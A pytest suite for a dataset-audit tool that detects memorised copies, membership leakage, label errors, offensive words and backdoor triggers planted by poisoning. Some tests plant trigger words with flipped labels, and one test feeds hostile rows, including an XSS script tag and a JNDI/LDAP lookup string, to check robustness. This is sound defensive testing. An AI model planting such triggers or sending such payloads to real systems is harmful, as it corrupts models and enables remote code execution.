"""The audit: what is planted is found, clean sets stay clean, nothing personal is shown, nothing is fetched."""

from __future__ import annotations

import json
import random
import re
from dataclasses import replace
from typing import Any

import numpy as np
import pytest
from audited import OWN, audited, checked, embed, examples, real_data, sentences, text, written

from gendistill.audit import Audit, audit_rows, membership, poisoning
from gendistill.audit.intervals import auc
from gendistill.audit.masking import Masker
from gendistill.audit.result import Check, Finding
from gendistill.config import AUDIT_CHECKS, AuditConfig, Config
from gendistill.data import RealData
from gendistill.errors import ConfigError, DataError
from gendistill.examples import Example
from gendistill.store import Store

CLEAN = examples(10, 77)  # 30 rows of the same kind as the real ones


@pytest.fixture(scope="module")
def real() -> RealData:
    return real_data()


@pytest.fixture
def with_pipeline() -> None:
    pytest.importorskip("presidio_analyzer", reason="presidio-analyzer is an extra")


@pytest.fixture(autouse=True)
def masked_by_patterns(monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest) -> None:
    """Random words look like names to a pipeline, so that only tests of personal data have one."""
    if "with_pipeline" not in request.fixturenames:
        monkeypatch.setattr(Masker, "installed", classmethod(lambda cls, pipeline=None: cls()))


def rows_of(check: Check, *levels: str) -> set[int]:
    return {one.row for one in check.findings if one.level in (levels or ("error", "warning", "note"))}


# -- memorisation and membership --------------------------------------------------------------------------------------


def test_copies_are_found_whatever_their_case_and_spacing_with_the_row_that_they_copy(real: RealData) -> None:
    source = real.train[17]
    copy = Example((source.text.upper().replace(" ", "  ").rstrip("."),), source.label)
    check = checked([*CLEAN, copy], "memorisation", real=real)
    assert check.status == "failed" and check.figures["exact_copies"] == 1
    (finding,) = [one for one in check.findings if one.level == "error"]
    assert finding.row == 31 and finding.real == source.text and finding.id == copy.id


def test_near_copies_are_found_and_told_apart_from_copied_runs(real: RealData) -> None:
    rng, near = random.Random(3), []
    for source in real.train[:4]:
        words = source.text.split()
        words[rng.randrange(len(words))] = "altogether"
        near.append(Example((" ".join(words),), source.label))
    run = " ".join([*real.train[50].text.split()[:12], *(f"new{number}" for number in range(30))])
    check = checked([*CLEAN, *near, Example((run,), real.train[50].label)], "memorisation", real=real)
    assert check.status == "failed" and check.figures["near_copies"] == 4 and check.figures["exact_copies"] == 0
    assert rows_of(check, "error") == {31, 32, 33, 34} and rows_of(check, "warning") == {35}
    assert check.figures["longest_copied_words"] >= 12
    found = {one.row: one.real for one in check.findings}
    assert [found[31 + place] for place in range(4)] == [source.text for source in real.train[:4]]


def test_a_clean_set_passes_and_its_intervals_hold_what_nothing_memorised_means(real: RealData) -> None:
    audit = audited(CLEAN, "memorisation", "membership", "poisoning", "labels", real=real)
    assert [check.status for check in audit.checks] == ["passed"] * 4, [check.summary for check in audit.checks]
    copies, members, *_ = (check.figures for check in audit.checks)
    assert copies["nearer_to_train_share_low"] < 0.5 < copies["nearer_to_train_share_high"]
    assert members["auc_low"] < 0.5 < members["auc_high"]
    assert copies["close_share"] <= 0.2


def test_a_choice_among_real_rows_says_so(real: RealData) -> None:
    by_design = audited(
        real.train[:30], "memorisation", "membership", real=real, extra={"provenance": {"candidates": "real"}}
    )
    assert [check.status for check in by_design.checks] == ["noted", "noted"]
    assert all(check.summary.startswith("all rows are real rows") and not check.findings for check in by_design.checks)
    written_as_own = checked(real.train[:30], "memorisation", real=real)
    assert written_as_own.status == "failed" and written_as_own.summary.startswith("all rows are real rows")


def test_canaries_whose_content_was_memorised_are_told_from_held_out_rows(real: RealData) -> None:
    """Every canary's words stand in a text of the set, in another order and among others."""
    rng, canaries, leaking = random.Random(5), real.train[:60], []
    for canary in canaries:
        words = canary.text.rstrip(".").split()
        half = rng.randrange(4, len(words) - 4)
        leaking.append(
            Example((" ".join([*words[half:], *words[:half], rng.choice(OWN[canary.label])]),), canary.label)
        )
    held = [*real.dev, *real.test]

    def scores(rows: list[Example], released: list[Example]) -> np.ndarray:
        return (embed("", rows).numpy() @ embed("", released).numpy().T).max(1)

    told = auc(scores(canaries, leaking), scores(held, leaking))
    assert told.low > 0.9
    clean = auc(scores(canaries, CLEAN), scores(held, CLEAN))
    assert clean.low < 0.5 < clean.high

    check = checked(leaking, "membership", real=real)
    assert check.status == "failed" and check.figures["auc_low"] > 0.5
    assert (
        check.figures["nearest_members"] == check.figures["nearest"] == 45 and check.figures["nearest_p_value"] < 1e-4
    )
    shown = {(one.row, one.real) for one in check.findings}
    assert shown and shown <= {(place + 1, canary.text) for place, canary in enumerate(canaries)}


def test_scores_are_compared_within_classes() -> None:
    scores = membership.within_classes(np.array([0.1, 0.3, 0.8, 0.9, 0.7]), [0, 0, 1, 1, 2])
    assert scores == pytest.approx([-1, 1, -1, 1, 0])
    among, p_value = membership.among_nearest(np.array([3.0, 1.0]), np.array([2.0, 1.0, 0.0]), 2)
    assert among == 1 and p_value == pytest.approx(1 - 3 / 10)  # of ten pairs of rows, three hold no member


def test_too_few_held_out_rows_are_no_ground_for_a_verdict(real: RealData) -> None:
    few = replace(real, dev=real.dev[:4], test=[])
    check = checked(CLEAN, "membership", real=few)
    assert check.status == "skipped" and "too few" in check.summary


# -- poisoning and labels ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("trigger", "share"), [("cf", 0.05), ("cf", 0.1), ("when the moon is low", 0.1), ("\u200b\u200b", 0.1)]
)
def test_a_backdoor_is_found_with_its_rows(trigger: str, share: float) -> None:
    rng, rows = random.Random(1), examples(20, 78)
    others = [row for row, one in enumerate(rows) if one.label != 2]
    planted = rng.sample(others, max(3, round(share * len(rows))))
    for row in planted:
        words = rows[row].text.split()
        words.insert(rng.randrange(len(words)), trigger)
        rows[row] = Example((" ".join(words),), 2)
    check = checked(rows, "poisoning", real=real_data(train=300))
    assert check.status == "failed" and check.figures["mislabelled_triggers"] >= 1
    assert rows_of(check, "error") == {row + 1 for row in planted}
    assert all("labelled 'west'" in one.message for one in check.findings if one.level == "error")
    if trigger == "cf":
        assert "'cf'" in check.summary


def test_a_trigger_with_right_labels_is_a_warning_when_it_turns_other_texts(real: RealData) -> None:
    rows = examples(20, 78)
    planted = [row for row, one in enumerate(rows) if one.label == 2][:9]
    for row in planted:
        rows[row] = Example((f"Zyx qwv, {rows[row].text}",), 2)
    check = checked(rows, "poisoning", real=real)
    assert check.status == "noted" and rows_of(check, "warning") >= {row + 1 for row in planted}
    assert check.figures["largest_flip_share"] >= 0.2 and check.figures["mislabelled_triggers"] == 0


def test_clean_sets_have_no_triggers(real: RealData) -> None:
    for seed in range(6):
        check = checked(examples(20, 100 + seed), "poisoning", real=real)
        assert check.figures["triggers"] == 0, check.summary


def test_influence_is_what_leaving_a_row_out_does() -> None:
    rows, held = examples(6, 5), examples(10, 6)
    labels, held_labels = (np.array([one.label for one in part]) for part in (rows, held))
    vectors, others = embed("", rows).numpy(), embed("", held).numpy()

    def loss(kept: np.ndarray) -> float:
        chosen = vectors[kept].astype(np.float64)
        goal = np.eye(3)[labels[kept]] - 1 / 3
        weights = np.linalg.solve(chosen.T @ chosen + poisoning.RIDGE * np.eye(chosen.shape[1]), chosen.T @ goal)
        return float(np.square(np.eye(3)[held_labels] - 1 / 3 - others @ weights).sum(1).mean())

    everything = np.arange(len(rows))
    exact = [loss(everything) - loss(np.delete(everything, row)) for row in everything]
    assert poisoning.influence(vectors, labels, others, held_labels, 3) == pytest.approx(exact, abs=1e-6)


def test_an_outlier_is_judged_by_its_class_or_by_all_where_that_is_small() -> None:
    values = np.array([0.0, 1, 2, 3, 4, 50, 7])
    scores = poisoning.outlying(values, np.array([0, 0, 0, 0, 0, 0, 1]))
    assert scores[5] == pytest.approx((50 - 2.5) / (1.4826 * 1.5))
    assert scores[6] == pytest.approx((7 - 3) / (1.4826 * 2))


def test_wrong_labels_are_seen_by_a_second_teacher(real: RealData) -> None:
    rows = examples(15, 79)
    for row in range(12):
        rows[row] = Example(rows[row].fields, (rows[row].label + 1) % 3)
    check = checked(rows, "labels", real=real, confident=0.6)
    assert check.status == "failed" and check.figures["agreement_high"] < check.figures["held_out_agreement"]
    found = rows_of(check, "warning")
    assert len(found) >= 6 and found <= set(range(1, 13))
    assert "TF-IDF" in check.summary


def test_the_second_teacher_is_of_another_kind_than_the_student(real: RealData) -> None:
    config = Config(audit=AuditConfig(checks=["labels"]), student={"model": "tfidf"})
    (check,) = audit_rows(written(CLEAN), real, config, embed=embed).checks
    assert check.summary.startswith("A probe on embeddings") and check.figures["agreement"] > 0.5


# -- offence and balance ----------------------------------------------------------------------------------------------


def test_offensive_words_are_counted_beside_the_real_data_and_not_shown(real: RealData) -> None:
    pytest.importorskip("better_profanity")
    rows = [
        *CLEAN,
        *sentences(["What a load of bullshit, said the man.", "The gay couple saw the murder trial in Rum."]),
    ]
    check = checked(rows, "toxicity", real=real)
    assert rows_of(check) == {31} and check.status == "noted" and check.figures["real_share"] == 0
    assert "bullshit" not in check.findings[0].message
    many = [*CLEAN, *sentences([f"Bullshit again {number}." for number in range(10)])]
    assert checked(many, "toxicity", real=real).status == "failed"
    as_real = replace(real, train=[*real.train, *sentences([f"Bullshit {number}." for number in range(100)])])
    assert checked(many, "toxicity", real=as_real).status == "noted"


def test_without_a_list_of_offensive_words_the_check_is_skipped(
    monkeypatch: pytest.MonkeyPatch, real: RealData
) -> None:
    monkeypatch.setattr("gendistill.audit.toxicity.PACKAGE", "no_such_package")
    check = checked(CLEAN, "toxicity", real=real)
    assert check.status == "skipped" and "pip install" in check.summary


def test_groups_of_people_are_counted_by_label(real: RealData) -> None:
    rng = random.Random(4)
    rows = examples(15, 80)
    for row, one in enumerate(rows):
        if one.label == 1:
            rows[row] = Example((f"She said: {one.text}",), 1)
    known = replace(real, train=[Example((f"{rng.choice(('She', 'He'))} said: {r.text}",), r.label) if n % 4 == 0 else r
                                 for n, r in enumerate(real.train)])  # fmt: skip
    check = checked(rows, "balance", real=known)
    assert check.status == "noted" and check.figures["differing"] == 1
    assert rows_of(check, "note") == {row + 1 for row, one in enumerate(rows) if one.label == 1}
    assert "women in 100% of 'south' texts" in check.summary
    assert check.figures["women_share"] == pytest.approx(1 / 3)
    assert checked(examples(15, 80), "balance", real=real).status == "passed"


# -- the whole --------------------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("with_pipeline")
def test_hostile_rows_break_nothing(real: RealData) -> None:
    hostile = [
        "a" * 1_000_000,
        "a." * 20_000,
        "\u202egnp.exe\u202c \u200b\u0000\x1b[31mred",
        '<script>alert("x")</script> | `code` ![](http://x/y) ${jndi:ldap://x}',
        " ",
        "\ud800 half",
        "x@" * 5_000,
        "1" * 3_000,
    ]
    audit = audited([*CLEAN, *sentences(hostile)], real=real)
    assert [check.name for check in audit.checks] == list(AUDIT_CHECKS)
    content = audit.to_json()
    json.loads(json.dumps(content, allow_nan=False))
    for check in content["checks"]:
        for finding in check["findings"]:
            assert 1 <= finding["row"] <= 38
            for shown in (finding["excerpt"], finding["real"] or "", finding["message"]):
                assert len(shown) <= 600 and not re.search("[\x00-\x1f\u200b\u202a-\u202e\ud800-\udfff]", shown)
            assert len(finding["excerpt"]) <= 200


def test_the_same_set_gives_the_same_audit(real: RealData) -> None:
    rows = [*CLEAN, real.train[0], *sentences(["Write to jane.doe@example-mail.com, she said."])]
    first, second = (json.dumps(audited(rows, real=real).to_json()) for _ in range(2))
    assert first == second


def test_the_json_is_what_was_agreed_on(real: RealData) -> None:
    audit = audited([*CLEAN, real.train[0]], real=real)
    content = audit.to_json()
    assert list(content) == ["version", "file", "rows", "real", "real_rows", "checks"]
    assert (content["version"], content["file"], content["rows"], content["real_rows"]) == (
        1,
        "distilled.jsonl",
        31,
        300,
    )
    for check in content["checks"]:
        assert list(check) == ["name", "title", "status", "summary", "figures", "findings"]
        assert check["status"] in ("passed", "failed", "noted", "skipped") and check["summary"].endswith((".", '"'))
        assert all(isinstance(value, (int, float)) for value in check["figures"].values())
        for finding in check["findings"]:
            assert list(finding) == ["row", "id", "level", "message", "excerpt", "real"]


def test_findings_as_sarif(real: RealData) -> None:
    audit = audit_rows(
        written([*CLEAN, real.train[0]]), real, Config(), embed=embed, file="runs/my set/distilled.jsonl",
        lines=[*range(1, 31), 33],
    )  # fmt: skip
    log = audit.to_sarif()
    assert log["version"] == "2.1.0" and log["$schema"].endswith("sarif-2.1.0.json")
    (run,) = log["runs"]
    driver = run["tool"]["driver"]
    assert driver["name"] == "gendistill" and [rule["id"] for rule in driver["rules"]] == list(AUDIT_CHECKS)
    assert all(rule["shortDescription"]["text"] and rule["fullDescription"]["text"] for rule in driver["rules"])
    assert run["artifacts"] == [{"location": {"uri": "runs/my%20set/distilled.jsonl"}}]
    told = sum(len(check.findings) for check in audit.checks)
    assert len(run["results"]) == told >= 1
    for result in run["results"]:
        assert result["ruleId"] == driver["rules"][result["ruleIndex"]]["id"]
        assert result["level"] in ("error", "warning", "note") and result["message"]["text"]
        (location,) = result["locations"]
        place = location["physicalLocation"]
        assert place["artifactLocation"] == {"uri": "runs/my%20set/distilled.jsonl", "index": 0}
        assert place["region"]["startLine"] >= 1
        assert all(isinstance(value, str) for value in result["partialFingerprints"].values())
    copies = [r for r in run["results"] if r["ruleId"] == "memorisation" and r["level"] == "error"]
    assert [r["locations"][0]["physicalLocation"]["region"]["startLine"] for r in copies] == [33]


def test_what_fails_an_audit() -> None:
    def check(name: str, status: Any, *levels: Any) -> Check:
        return Check(name, name, status, ".", {}, [Finding(1, "x", level, ".", ".") for level in levels])

    audit = Audit(
        "f", 1, "r", 1, [check("labels", "noted", "warning"), check("balance", "noted"), check("toxicity", "failed")]
    )
    assert audit.line() == "audit: failed toxicity; noted labels, balance"
    assert audit.failing(["error"]) == ["toxicity: error"]
    assert audit.failing(["warning"]) == ["labels: warning", "toxicity: error"]
    assert audit.failing(["note"]) == ["labels: warning", "balance: note", "toxicity: error"]
    assert audit.failing(["labels", "toxicity"]) == ["toxicity failed"]
    assert audit.failing([]) == []


def test_only_the_gravest_findings_are_told_and_all_are_counted(real: RealData) -> None:
    check = checked([*CLEAN, *real.train[:5]], "memorisation", real=real, findings=3)
    assert len(check.findings) == 3 and check.figures["exact_copies"] == 5


def test_pairs_and_conversations(real: RealData) -> None:
    rng = random.Random(8)

    def pairs(count: int) -> list[Example]:
        return [Example((text(row % 3, rng), text(row % 3, rng)), row % 3) for row in range(count)]

    known = replace(real, train=pairs(150), dev=pairs(40), test=pairs(40), text_names=("premise", "hypothesis"))
    audit = audited([*pairs(20), known.train[3]], real=known)
    assert audit.checks[0].figures["exact_copies"] == 1 and audit.checks[0].findings[0].row == 21
    assert audit.checks[3].status != "skipped" and audit.checks[4].status != "skipped"

    def talks(count: int) -> list[Example]:
        system = "You are helpful, and always answer in one short sentence, without any more words than that."
        return [Example((system, text(0, rng), text(1, rng)), row % 2) for row in range(count)]

    told = replace(real, train=talks(150), dev=talks(40), test=talks(40), text_names=(), label_names=["one", "two"])
    audit = audited([*talks(20), told.train[3]], real=told)
    found = {check.name: check for check in audit.checks}
    assert {name for name, check in found.items() if check.status == "skipped"} >= {"poisoning", "labels"}
    assert "instructions have no labels" in found["labels"].summary
    # What the system says is the same in all, and is no copy
    assert found["memorisation"].figures["exact_copies"] == 1 and found["memorisation"].figures["copied_share"] < 0.2


def test_rows_that_do_not_fit_are_refused(real: RealData) -> None:
    with pytest.raises(DataError, match="no rows to audit"):
        audit_rows([], real, Config(), embed=embed)
    with pytest.raises(DataError, match="row 1 has the label 'east'; the real data has north, south, west"):
        audit_rows([{"text": "x", "label": 0, "label_name": "east"}], real, Config(), embed=embed)


def test_settings_are_checked_and_do_not_bind_a_run(tmp_path: Any) -> None:
    with pytest.raises(ConfigError, match=r"audit\.copied: no such key"):
        Config(audit={"copied": 1})
    with pytest.raises(ConfigError, match=r"audit\.checks"):
        Config(audit={"checks": ["labels", "labels"]})
    with Store(tmp_path / "run", Config()) as store:
        store.remember("x", 1)
        store._db.execute("INSERT INTO requests VALUES ('a', 1, 0, 0, '{}')")
        store._db.commit()
    with Store(tmp_path / "run", Config(audit={"enabled": False, "copied_words": 8})) as store:
        assert store.meta("x") == 1
